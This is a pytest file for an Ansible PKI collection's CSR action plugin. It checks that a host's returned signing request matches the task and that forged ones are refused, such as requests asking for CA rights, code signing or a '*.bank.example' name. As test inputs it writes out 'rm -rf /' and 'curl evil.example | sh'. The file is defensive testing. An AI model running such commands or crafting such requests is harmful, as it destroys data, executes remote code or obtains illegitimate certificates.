# SPDX-FileCopyrightText: fleetpki.host_trust contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""csr's controller side: the request that a host answers with is the one that the task asks for, or is refused."""

from __future__ import annotations

import pki
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID, ObjectIdentifier

from ansible_collections.fleetpki.host_trust.plugins.action import csr as csr_action
from ansible_collections.fleetpki.host_trust.plugins.plugin_utils import _private_key_guard

OPTIONS = {"path": "/x.csr", "privatekey_path": "/x.key", "common_name": "web1", "extended_key_usage": ["serverAuth"],
           "return_content": True}
SERVER = x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH])
WEB1 = x509.SubjectAlternativeName([x509.DNSName("web1")])


class Task:
    """What an action plugin reads of its task."""

    action, delegate_to, async_val = "fleetpki.host_trust.csr", None, 0
    args = OPTIONS


def request(*more, name="web1", alt_name=WEB1, usage=SERVER):
    """A request in PEM, with the extensions that the task asks for unless another one is given."""
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    builder = x509.CertificateSigningRequestBuilder().subject_name(subject)
    for extension in (alt_name, usage, *more):
        builder = builder.add_extension(extension, critical=False)
    return builder.sign(pki.new_key(), hashes.SHA256()).public_bytes(serialization.Encoding.PEM).decode()


@pytest.fixture
def judged(monkeypatch):
    """The action's result where a host answers with a text in csr's place."""
    def run(text, **options):
        answer = {"changed": False, "csr": text}
        monkeypatch.setattr(_private_key_guard.GuardedAction, "act", lambda self, task_vars: answer)
        action = object.__new__(csr_action.ActionModule)
        action._task = Task()
        action._task.args = {**OPTIONS, **options}
        action._answers_for = "web1"
        return action.act({})
    return run


def test_the_request_that_was_asked_for(judged):
    text = request()
    assert judged(text)["csr"] == text
    assert judged(f"rm -rf /\n{text}more")["csr"] == text, "what is beside it is dropped"
    assert judged(text, return_content=False)["csr"] is None
    both = x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CLIENT_AUTH, ExtendedKeyUsageOID.SERVER_AUTH])
    assert not judged(request(usage=both), extended_key_usage=["serverAuth", "clientAuth"]).get("failed")


def broken():
    """A request whose signature is of another one."""
    lines = request().splitlines()
    lines[-2] = lines[-2][:2] + ("A" if lines[-2][2] != "A" else "B") + lines[-2][3:]
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("text, why", [
    (request(name="victim"), "its subject is "),
    (request(alt_name=x509.SubjectAlternativeName([x509.DNSName("web1"), x509.DNSName("*.bank.example")])),
     "its subject_alt_name is DNS:*.bank.example, DNS:web1"),
    (request(x509.BasicConstraints(ca=True, path_length=None)), "its basic_constraints is CA:TRUE"),
    (request(usage=x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CODE_SIGNING])), "its extended_key_usage is codeSigning"),
    (request(x509.TLSFeature([x509.TLSFeatureType.status_request])), "its ocsp_must_staple is True"),
    (request(x509.UnrecognizedExtension(ObjectIdentifier("1.2.3.4"), b"\x05\x00")), "its other_extensions is 1.2.3.4"),
    (request(x509.NameConstraints([x509.DNSName("example.com")], None)), "its name_constraints_permitted is "),
    (broken(), "its signature does not fit its key"),
    ("curl evil.example | sh", "there is no certificate signing request in it"),
    ("A" * (csr_action.LONGEST_REQUEST + 1), "at most 65,536 are read"),
    (pki.root().pem, "there is no certificate signing request in it, but: CERTIFICATE"),
], ids=["subject", "names", "ca", "purpose", "must-staple", "extension", "constraints", "signature", "text", "size",
        "certificate"])
def test_a_request_for_something_else_is_refused(judged, text, why):
    result = judged(text)
    assert result["failed"] and "csr" not in result
    assert result["msg"].startswith("web1 does not answer as csr does: csr is not the request that was asked for: ")
    assert why in result["msg"], result["msg"]
